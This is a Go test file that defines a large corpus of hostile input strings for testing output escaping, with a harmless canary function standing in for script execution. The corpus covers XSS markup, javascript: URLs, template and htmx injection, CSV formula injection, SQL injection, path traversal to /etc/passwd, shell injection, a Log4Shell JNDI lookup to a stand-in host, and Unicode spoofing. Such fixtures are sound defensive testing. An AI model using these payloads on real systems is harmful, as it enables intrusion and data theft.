package handlers_test

import (
	"fmt"
	"slices"
	"strings"
)

// The hostile strings: each would run ran(), ask another host, or break the page or the message, if it
// were taken for anything but a text somewhere. ran is the canary; see [witness].

// hostileMarkup is HTML and SVG that runs script by itself, or has the browser load something.
var hostileMarkup = []string{
	`<script>ran(1)</script>`, `"><script>ran(2)</script>`, `'><script>ran(3)</script>`, `</title><script>ran(4)</script>`,
	`</textarea><script>ran(5)</script>`, `</style><script>ran(6)</script>`, `</script><script>ran(7)</script>`, `--><script>ran(8)</script>`,
	`]]><script>ran(9)</script>`, `</option></select><script>ran(10)</script>`, `</pre></code><script>ran(11)</script>`,
	`<ScRiPt>ran(12)</sCrIpT>`, `<script/x>ran(13)</script>`, `<script src=//elsewhere.invalid/x.js></script>`, `<script src=/hostile-canary></script>`,
	`<script type=module>ran(16)</script>`, `<script>ran(17)//`, `<<script>ran(18)//<</script>`, `<scr<script>ipt>ran(19)</scr</script>ipt>`,
	`<img src=x onerror=ran(20)>`, `<img src=x onerror="ran(21)">`, `<img/src=x/onerror=ran(22)>`, `<image src=x onerror=ran(23)>`,
	`<img src=//elsewhere.invalid/pixel.png>`, `<img srcset="/hostile-canary 2x" src=x>`, "<img src=`x` onerror=ran(26)>", `<img src="x:x" onerror="ran(27)"`,
	`<svg onload=ran(28)>`, `<svg/onload=ran(29)>`, `<svg><script>ran(30)</script></svg>`, `<svg><script href="data:,ran(31)"/></svg>`,
	`<svg><animate onbegin=ran(32) attributeName=x dur=1s>`, `<svg><set onbegin=ran(33) attributeName=x>`, `<svg><a xlink:href="javascript:ran(34)"><text y=9>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='ran(35)'/></svg>#x"/></svg>`,
	`<svg><foreignObject><iframe srcdoc="<script>parent.ran(36)</script>"></iframe></foreignObject></svg>`, `<svg><style><img src=x onerror=ran(37)></style></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=ran(38)>`, `<math href="javascript:ran(39)">x</math>`, `<math><mi//xlink:href="javascript:ran(40)">`,
	`<body onload=ran(41)>`, `<body onpageshow=ran(42)>`, `<html onmouseover=ran(43)>`, `<details open ontoggle=ran(44)>`, `<input autofocus onfocus=ran(45)>`,
	`<select autofocus onfocus=ran(46)>`, `<textarea autofocus onfocus=ran(47)>`, `<button autofocus onfocus=ran(48)>x`, `<a autofocus tabindex=1 onfocus=ran(49)>x</a>`,
	`<marquee onstart=ran(50)>`, `<video><source onerror=ran(51)>`, `<video poster=//elsewhere.invalid/p.png>`, `<audio src=x onerror=ran(53)>`,
	`<object data="javascript:ran(54)">`, `<object data="/hostile-canary">`, `<embed src="javascript:ran(56)">`, `<embed src=//elsewhere.invalid/x.swf>`,
	`<iframe src="javascript:parent.ran(58)">`, `<iframe srcdoc="<script>parent.ran(59)</script>">`, `<iframe src=//elsewhere.invalid>`, `<iframe onload=ran(61)>`,
	`<link rel=stylesheet href=//elsewhere.invalid/x.css>`, `<link rel=preload as=script href=/hostile-canary>`, `<link rel=prefetch href=/hostile-canary>`,
	`<meta http-equiv=refresh content="0;url=//elsewhere.invalid">`, `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`, `<base href=//elsewhere.invalid/>`,
	`<form action=//elsewhere.invalid><input name=password></form>`, `<form id=f action="javascript:ran(69)"><button>x`, `<button form=f formaction="javascript:ran(70)">x</button>`,
	`<isindex type=image src=1 onerror=ran(71)>`, `<noscript><p title="</noscript><img src=x onerror=ran(72)>">`, `<template><script>ran(73)</script></template>`,
	`<xmp><p title="</xmp><img src=x onerror=ran(74)>">`, `<plaintext>`, `<!--`, `<!--<img src="--><img src=x onerror=ran(77)//">`, `<![CDATA[<script>ran(78)</script>]]>`,
	`<?xml-stylesheet href="javascript:ran(79)"?>`, `<x onfocus=ran(80) tabindex=1 id=x autofocus>`, `<style>*{background:url(//elsewhere.invalid/s)}</style>`,
	`<style>@import "//elsewhere.invalid/i.css";</style>`, `<style onload=ran(83)></style>`, `<table background=//elsewhere.invalid/t.png>`,
	`<p style="position:fixed;inset:0;background:url(/hostile-canary)">x</p>`, `<dialog open onclose=ran(86)>x</dialog>`, `<a href=# ping=//elsewhere.invalid>x</a>`,
	`<b onmouseover=ran(88)>b</b><i style=color:red onclick=ran(88)>i</i>`, `<u><b><i><script>ran(89)</script></i></b></u>`, `<p><li><br onclick=ran(90)><ul onload=ran(90)>`,
}

// hostileAttributes break out of an attribute, or are addresses that run script or lead away.
var hostileAttributes = []string{
	`" onmouseover="ran(91)`, `' onmouseover='ran(92)`, "` onmouseover=`ran(93)", `" autofocus onfocus="ran(94)" x="`, `x" onerror="ran(95)`, `"onclick=ran(96)//`,
	`" style="background:url(/hostile-canary)`, `&quot; onclick=&quot;ran(98)`, `&#34;&#62;&#60;script&#62;ran(99)&#60;/script&#62;`, `&lt;script&gt;ran(100)&lt;/script&gt;`,
	`&amp;lt;script&amp;gt;ran(101)`, `" formaction="javascript:ran(102)`, `"/><svg onload=ran(103)>`, `" srcdoc="<script>parent.ran(104)</script>`, `\" onclick=\"ran(105)`,
	`" data-copy-from="content" data-print="`, `" id="live" class="hidden`, `" aria-hidden="true" hidden x="`,
	`javascript:ran(109)`, `JaVaScRiPt:ran(110)`, "java\tscript:ran(111)", "java\nscript:ran(112)", "\x01javascript:ran(113)", ` javascript:ran(114)`, `javascript&colon;ran(115)`,
	`&#106;avascript:ran(116)`, `javascript://%0aran(117)`, `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+ran(118)//'>`,
	`data:text/html,<script>ran(119)</script>`, `data:text/html;base64,PHNjcmlwdD5yYW4oMTIwKTwvc2NyaXB0Pg==`, `vbscript:msgbox(1)`, `blob:http://elsewhere.invalid/1`,
	`//elsewhere.invalid/`, `\\elsewhere.invalid\share`, `/\elsewhere.invalid`, `https:elsewhere.invalid`, `http://127.0.0.1:9/`, `https://user:pass@elsewhere.invalid/`,
	`file:///etc/passwd`, `mailto:a@b.example?bcc=x@elsewhere.invalid&body=x`, `tel:+1;ext="><script>ran(131)</script>`,
}

// hostileTemplates speak to htmx, to other libraries of its kind, to templates, styles and scripts.
var hostileTemplates = []string{
	`<div hx-get="/hostile-canary" hx-trigger="load"></div>`, `<div data-hx-get="/hostile-canary" data-hx-trigger="load"></div>`, `<div hx-on::load="ran(134)"></div>`,
	`<img src=x hx-on:error="ran(135)">`, `<div hx-vals='js:{x: ran(136)}' hx-post="/hostile-canary" hx-trigger="load"></div>`, `<b hx-trigger="every 1ms[ran(137)]" hx-get="/hostile-canary">x</b>`,
	`<div hx-ext="x" hx-boost="true"><a href="//elsewhere.invalid">x</a></div>`, `<div hx-swap-oob="true" id="content">gone</div>`, `" hx-get="/hostile-canary" hx-trigger="load`,
	`' hx-on::after-request='ran(141)`, `" hx-select="*" hx-target="body`, `<div sse-connect="/hostile-canary" ws-connect="/hostile-canary"></div>`, `<div _="on load call ran(144)"></div>`,
	`<div x-data x-init="ran(145)"></div>`, `<div ng-app ng-csp>{{$on.constructor('ran(146)')()}}</div>`, `<div v-html="ran(147)">{{ran(147)}}</div>`,
	`{{7*7}}{{constructor.constructor('ran(148)')()}}`, `${7*7}${ran(149)}`, `<%= 7*7 %><% ran(150) %>`, `#{7*7}{% raw %}{%- x -%}`, `{{.}}{{template "x"}}{{printf "%s" .Secret}}`,
	`{ children... }@templ.Raw("<script>ran(153)</script>")`, `%s%n%x%!d(string=x)`,
	`expression(ran(155))`, `x;background:url(javascript:ran(156))`, `}</style>*{display:none}/*`, `\3c script\3e ran(158)`, `-moz-binding:url(//elsewhere.invalid/x.xml#a)`,
	`"});ran(160)//`, `';ran(161)//`, `\";ran(162)//`, `\u003cscript\u003eran(163)\u003c/script\u003e`, `","x":{"y":"z"},"resourceType":"Patient`, `{"resourceType":"Bundle","type":"message"}`,
	`{"__proto__":{"src":"data:,ran(166)"}}`, `__proto__`, "`${ran(168)}`",
}

// hostileElsewhere are meant for other programs that the text may come to: spreadsheets, shells, logs.
var hostileElsewhere = []string{
	`=HYPERLINK("http://elsewhere.invalid/?"&A1,"x")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `'; DROP TABLE referrals; --`, `" OR ""="`,
	`../../../../etc/passwd`, `..\..\windows\win.ini`, `$(reboot) ; reboot | reboot & reboot`, `${jndi:ldap://elsewhere.invalid/a}`, "a\r\nSet-Cookie: x=y\r\n\r\n<script>ran(179)</script>", `%00%0d%0a%3Cscript%3Eran(180)%3C/script%3E`,
}

// hostileSigns are characters that turn, hide, imitate or overflow.
func hostileSigns() []string {
	signs := []string{
		"\u202egnp.exe\u202c", "\u2066\u202e\u2069abc\u200f", "\u200b\u200c\u200d\ufeff", "a\x00b<script>ran(184)</script>", "<scr\x00ipt>ran(185)</scr\x00ipt>", "\x1b[31mred\x1b[0m\x07\x08\x7f",
		"\u0085\u2028ran(187)\u2029", "\ufffe\uffff\ufffd", "\u0441\u0441ript ＜script＞ran(189)＜/script＞", "+ADw-script+AD4-ran(190)+ADw-/script+AD4-",
		"<\u0338script>ran(191)</script>", "Z" + strings.Repeat("\u0301\u0489\u0336", 60), strings.Repeat("W", 3000), strings.Repeat("\ufdfd", 200), strings.Repeat("\U0001f468\u200d\U0001f469\u200d", 50),
		strings.Repeat("<b>", 500) + "deep", "\u0627\u0644\u0645\u0631\u064a\u0636 (\u05d7\u05d5\u05dc\u05d4) 123-456", "  \t\n\v\f  ",
		"\U000e0001\U000e0041\U000e007f<script>ran(199)</script>", "\u00ad\u034f\u2060\u3164<\ufeffscript>ran(200)</script>",
	}
	return signs
}

// hostileStrings are all of them.
func hostileStrings() []string {
	return slices.Concat(hostileMarkup, hostileAttributes, hostileTemplates, hostileElsewhere, hostileSigns())
}

// numbered says which string it is, for failures.
func numbered(n int) string { return fmt.Sprintf("string %d, %.60q", n, hostileStrings()[n]) }
